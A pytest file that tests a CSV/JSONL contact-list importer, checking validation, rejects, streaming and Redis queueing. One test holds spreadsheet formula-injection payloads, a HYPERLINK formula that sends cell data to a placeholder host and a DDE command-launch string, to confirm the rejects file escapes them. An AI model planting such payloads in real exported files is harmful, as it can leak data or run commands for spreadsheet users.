"""Reading CSV and JSONL files into jobs, streamed, and queueing them in Redis."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from redis.asyncio import Redis

from worker.errors import BadInput
from worker.intake.csv_cells import restore_cell
from worker.intake.importer import (
    ImportCounts,
    Rejected,
    RejectsWriter,
    import_jobs,
    open_source,
)
from worker.intake.lines import EXCERPT_CHARS, MAX_ROW_CHARS
from worker.queue.jobs import Job, dedupe_digest
from worker.queue.lanes import Queue
from worker.store.keys import AccountKeys


def write(tmp_path: Path, name: str, text: str) -> str:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def read_all(path: str, campaign: str = "", normalize: bool = False) -> list[Job | Rejected]:
    with open_source(path) as source:
        return list(source.jobs(campaign, normalize))


async def run_import(
    redis: Redis, prefix: str, path: str, campaign: str = ""
) -> tuple[ImportCounts, list[Rejected], AccountKeys]:
    keys = AccountKeys(prefix, "default")
    rejected: list[Rejected] = []
    with open_source(path) as source:
        counts = await import_jobs(
            Queue(redis, keys), source.jobs(campaign), "bulk", on_reject=rejected.append
        )
    return counts, rejected, keys


async def lane_fields(redis: Redis, key: str) -> list[dict[str, str]]:
    return [fields for _, fields in await redis.xrange(key)]


async def test_csv_import_counts_queued_duplicates_and_rejects_with_line_numbers(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    path = write(
        tmp_path,
        "list.csv",
        "Phone_Number,CAMPAIGN,name,extra\n"
        "9876500001,spring,Asha,x\n"
        "12,spring,too short,x\n"
        "\n"
        '9876500002,spring,Ravi,"two\nlines"\n'
        "9876500001,spring,again,x\n"
        "9876500003,,no campaign,x\n",
    )
    counts, rejected, keys = await run_import(redis, key_prefix, path)

    assert (counts.queued, counts.duplicates, counts.rejected) == (2, 1, 2)
    assert [(r.line, r.reason) for r in rejected] == [
        (3, "phone number must be 5-15 digits with an optional leading '+'"),
        # Physical lines: the quoted cell on lines 5-6 counts as two.
        (8, "campaign is empty"),
    ]
    assert rejected[0].raw == "12,spring,too short,x"
    queued = await lane_fields(redis, keys.bulk)
    assert [(f["phone"], f["campaign"], f.get("name")) for f in queued] == [
        ("9876500001", "spring", "Asha"),
        ("9876500002", "spring", "Ravi"),
    ]
    assert await redis.sismember(keys.pending, dedupe_digest("spring", "9876500002"))


async def test_campaign_option_fills_rows_without_one_and_a_bom_is_ignored(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    path = write(tmp_path, "list.csv", "\ufeffmobile,campaign\n9876500001,\n9876500002,autumn\n")
    counts, _, keys = await run_import(redis, key_prefix, path, campaign="spring")

    assert (counts.queued, counts.rejected) == (2, 0)
    queued = await lane_fields(redis, keys.bulk)
    assert [f["campaign"] for f in queued] == ["spring", "autumn"]


async def test_jsonl_import_accepts_spellings_and_rejects_bad_lines(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    path = write(
        tmp_path,
        "list.jsonl",
        '{"phoneNumber": "9876500001", "campaignName": "spring", "name": "A"}\n'
        '{"number": 9876500002, "campaign": "spring"}\n'
        "not json\n"
        "\n"
        "[1, 2]\n"
        '{"phone": 9876.5, "campaign": "spring"}\n'
        '{"phone_number": "9876500001", "campaign_name": "spring"}\n'
        '{"mobile": "", "campaign": "spring"}\n',
    )
    counts, rejected, keys = await run_import(redis, key_prefix, path)

    assert (counts.queued, counts.duplicates, counts.rejected) == (2, 1, 4)
    assert [(r.line, r.reason) for r in rejected] == [
        (3, "not a JSON object"),
        (5, "not a JSON object"),
        (6, "phone must be a string"),
        (8, "phone number is empty"),
    ]
    assert rejected[0].raw == "not json"
    queued = await lane_fields(redis, keys.bulk)
    assert [f["phone"] for f in queued] == ["9876500001", "9876500002"]


def test_format_is_detected_from_content_without_an_extension(tmp_path: Path) -> None:
    jsonl = write(tmp_path, "list.txt", '  {"phone": "9876500001", "campaign": "c"}\n')
    csv_file = write(tmp_path, "list.dat", "phone,campaign\n9876500001,c\n")

    with open_source(jsonl) as source:
        assert source.detect_format() == "jsonl"
    with open_source(csv_file) as source:
        assert source.detect_format() == "csv"
    assert [j.phone for j in read_all(jsonl) if isinstance(j, Job)] == ["9876500001"]
    assert [j.phone for j in read_all(csv_file) if isinstance(j, Job)] == ["9876500001"]


async def test_a_file_without_a_phone_column_queues_nothing(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    path = write(tmp_path, "list.csv", "msisdn,campaign\n9876500001,c\n")
    with pytest.raises(BadInput, match="no phone column"):
        await run_import(redis, key_prefix, path)
    assert await redis.xlen(AccountKeys(key_prefix, "default").bulk) == 0


@pytest.mark.parametrize(
    ("name", "text", "error"),
    [
        ("empty.csv", "", "empty"),
        ("nocampaign.csv", "phone\n9876500001\n", "no campaign column"),
        ("nophone.jsonl", '{"campaign": "c", "tel": "9876500001"}\n', "no phone field"),
        ("nocampaign.jsonl", '{"phone": "9876500001"}\n', "no campaign column"),
    ],
)
def test_whole_file_problems_are_bad_input(
    tmp_path: Path, name: str, text: str, error: str
) -> None:
    with pytest.raises(BadInput, match=error):
        read_all(write(tmp_path, name, text))


def test_missing_file_and_directory_are_bad_input(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="no such file"):
        open_source(str(tmp_path / "nope.csv"))
    with pytest.raises(BadInput, match="directory"):
        open_source(str(tmp_path))


def test_normalize_strips_decoration_only_when_asked(tmp_path: Path) -> None:
    path = write(tmp_path, "list.csv", "phone,campaign\n+91 98765-00001,c\n")
    plain = read_all(path)
    normalized = read_all(path, normalize=True)
    assert isinstance(plain[0], Rejected)
    assert isinstance(normalized[0], Job)
    assert normalized[0].phone == "+919876500001"


def test_stdin_is_read_when_the_path_is_a_dash() -> None:
    stdin = io.BytesIO(b'{"phone": "9876500001", "campaign": "c"}\n')
    with open_source("-", stdin) as source:
        jobs = list(source.jobs())
    assert [j.phone for j in jobs if isinstance(j, Job)] == ["9876500001"]


def test_the_file_is_streamed_not_read_whole(tmp_path: Path) -> None:
    rows = "".join(f"98{i:08d},c\n" for i in range(200_000))
    path = write(tmp_path, "big.csv", "phone,campaign\n" + rows)
    with open_source(path) as source:
        assert source.total_bytes is not None and source.total_bytes > 2_000_000
        first = next(source.jobs())
        assert isinstance(first, Job) and first.phone == "9800000000"
        # Only a buffer's worth has been read to produce the first job.
        assert 0 < source.bytes_read < 100_000


def test_a_rejected_row_spanning_lines_reports_the_line_it_starts_on(tmp_path: Path) -> None:
    path = write(tmp_path, "list.csv", 'phone,campaign\n"98765\n00001",c\n9876500002,c\n')
    rows = read_all(path)
    assert isinstance(rows[0], Rejected) and rows[0].line == 2
    assert rows[0].raw == '"98765\n00001",c'
    assert isinstance(rows[1], Job)


def write_bytes(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def good_rows(first: int, count: int) -> bytes:
    return b"".join(f"98{i:08d},spring,n{i}\n".encode() for i in range(first, first + count))


async def test_a_row_that_is_not_utf8_is_rejected_and_the_rest_of_the_file_is_queued(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    # Past the first batch of 2,000, as an export with one latin-1 row would be.
    latin1 = "9876543210,spring,José\n".encode("latin-1")
    path = write_bytes(
        tmp_path,
        "list.csv",
        b"phone,campaign,name\n" + good_rows(0, 2500) + latin1 + good_rows(2500, 10),
    )
    counts, rejected, keys = await run_import(redis, key_prefix, path)

    assert (counts.queued, counts.duplicates, counts.rejected) == (2510, 0, 1)
    assert [(r.line, r.reason, r.raw) for r in rejected] == [
        (2502, "not UTF-8 text", "9876543210,spring,Jos\\xe9")
    ]
    assert await redis.xlen(keys.bulk) == 2510


async def test_a_huge_field_is_rejected_with_a_short_excerpt_and_the_rest_goes_on(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    huge = b"9876543210,spring," + b"x" * 1_000_000 + b"\n"
    path = write_bytes(
        tmp_path,
        "list.csv",
        b"phone,campaign,name\n" + good_rows(0, 2500) + huge + good_rows(2500, 10),
    )
    counts, rejected, _ = await run_import(redis, key_prefix, path)

    assert (counts.queued, counts.rejected) == (2510, 1)
    [row] = rejected
    assert (row.line, row.reason) == (2502, "row longer than 65536 characters (1000018)")
    assert row.raw.startswith("9876543210,spring,xxx")
    assert row.raw.endswith("... (1000018 characters)")
    assert len(row.raw) < EXCERPT_CHARS + 30


def test_a_quoted_cell_too_long_over_many_lines_is_one_rejection_at_its_first_line(
    tmp_path: Path,
) -> None:
    # csv would hold every line of the cell; it is read past to its closing quote.
    cell = '"' + "line\n" * 20_000 + 'still "" quoted\n"'
    path = write(
        tmp_path,
        "list.csv",
        f"phone,campaign,name\n9876500001,c,a\n9876500002,c,{cell}\n9876500003,c,b\n",
    )
    rows = read_all(path)

    assert [type(row).__name__ for row in rows] == ["Job", "Rejected", "Job"]
    assert isinstance(rows[1], Rejected) and rows[1].line == 3
    assert rows[1].reason.startswith("row longer than 65536 characters")
    assert isinstance(rows[2], Job) and rows[2].phone == "9876500003"
    with open_source(path) as source:
        assert [line for line, _ in source.numbered_jobs()] == [2, 3, 20_005]


def test_a_row_of_the_limit_is_read_and_one_longer_is_refused_whatever_its_line_break(
    tmp_path: Path,
) -> None:
    at_limit = "9876500001,c," + "x" * (MAX_ROW_CHARS - 13)
    rows = [at_limit + "\r\n", at_limit + "x\n", at_limit + "\r", at_limit + "xx\r\n"]
    path = write(tmp_path, "list.csv", "phone,campaign,name\n" + "".join(rows))
    with open_source(path) as source:
        read = list(source.numbered_jobs())
    assert [(line, type(row).__name__) for line, row in read] == [
        (2, "Rejected"),  # read whole: refused for its name, not its length
        (3, "Rejected"),
        (4, "Rejected"),
        (5, "Rejected"),
    ]
    reasons = [row.reason for _, row in read if isinstance(row, Rejected)]
    assert reasons == [
        "name must be printable and at most 255 characters",
        f"row longer than {MAX_ROW_CHARS} characters ({MAX_ROW_CHARS + 1})",
        "name must be printable and at most 255 characters",
        f"row longer than {MAX_ROW_CHARS} characters ({MAX_ROW_CHARS + 2})",
    ]


def test_a_long_line_cut_between_cr_and_lf_does_not_count_an_extra_line(tmp_path: Path) -> None:
    # Read in pieces of MAX_ROW_CHARS + 2: this line's first piece ends on the CR.
    long_line = "9876500001,c," + "x" * (MAX_ROW_CHARS + 1 - 13) + "\r\n"
    path = write_bytes(
        tmp_path,
        "list.csv",
        ("phone,campaign\r\n" + long_line + "9876500002,c\r\n").encode(),
    )
    with open_source(path) as source:
        rows = list(source.numbered_jobs())
    assert [(line, type(row).__name__) for line, row in rows] == [(2, "Rejected"), (3, "Job")]


async def test_jsonl_lines_of_json_shaped_garbage_are_each_rejected(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    lines = [
        b'{"phone": "9876500001", "campaign": "c"}',
        b"[" * 50_000,  # deep enough to exhaust the decoder's recursion
        b"[" * 100_000,  # and longer than a row may be
        b"12",
        b'"9876500002"',
        b"null",
        b"9" * 5000,  # more digits than int() takes from text
        b'{"phone": "98765\xff0003", "campaign": "c"}',
        b'{"phone\\n": 1.5, "campaign": "c"}',
        b'{"phone": "9876500004", "campaign": "c"}',
    ]
    path = write_bytes(tmp_path, "list.jsonl", b"\n".join(lines) + b"\n")
    counts, rejected, keys = await run_import(redis, key_prefix, path)

    assert (counts.queued, counts.duplicates, counts.rejected) == (2, 0, 8)
    assert [(r.line, r.reason) for r in rejected] == [
        (2, "not a JSON object: nested more than 64 deep"),
        (3, "row longer than 65536 characters (100000)"),
        (4, "not a JSON object"),
        (5, "not a JSON object"),
        (6, "not a JSON object"),
        (7, "not a JSON object"),
        (8, "not UTF-8 text"),
        (9, "phone must be a string"),
    ]
    assert rejected[6].raw == '{"phone": "98765\\xff0003", "campaign": "c"}'
    assert all(len(r.raw) < EXCERPT_CHARS + 30 for r in rejected)
    assert [f["phone"] for f in await lane_fields(redis, keys.bulk)] == [
        "9876500001",
        "9876500004",
    ]


def test_a_row_with_nul_and_control_characters_is_rejected_with_them_escaped(
    tmp_path: Path,
) -> None:
    path = write(tmp_path, "list.csv", "phone,campaign,name\n9876500001,c,a\x00b\x1b[31m\n")
    [row] = read_all(path)
    assert isinstance(row, Rejected)
    assert row.reason == "name must be printable and at most 255 characters"
    assert row.raw == "9876500001,c,a\\x00b\\x1b[31m"


def test_the_rejects_file_neutralizes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    writer = RejectsWriter(str(path))
    raws = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd", "\tx"]
    for line, raw in enumerate(raws, start=2):
        writer.write(Rejected(line, "-reason", raw))
    writer.close()

    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["line", "reason", "raw"]
    assert [raw for _, _, raw in rows[1:]] == ["'" + raw for raw in raws]
    assert {reason for _, reason, _ in rows[1:]} == {"'-reason"}
    assert [restore_cell(raw) for _, _, raw in rows[1:]] == raws


async def test_an_import_claims_no_ids_and_keeps_no_key_per_queued_job(
    redis: Redis, key_prefix: str, tmp_path: Path
) -> None:
    """Imported ids are drawn at random: they need no claim, and a claim per
    row would cost a million-row file a million keys."""
    rows = "".join(f"98765{i:05d},spring\n" for i in range(500))
    path = write(tmp_path, "list.csv", "phone,campaign\n" + rows)
    counts, rejected, keys = await run_import(redis, key_prefix, path)
    assert (counts.queued, rejected) == (500, [])
    assert [key async for key in redis.scan_iter(match=keys.job("*"))] == []
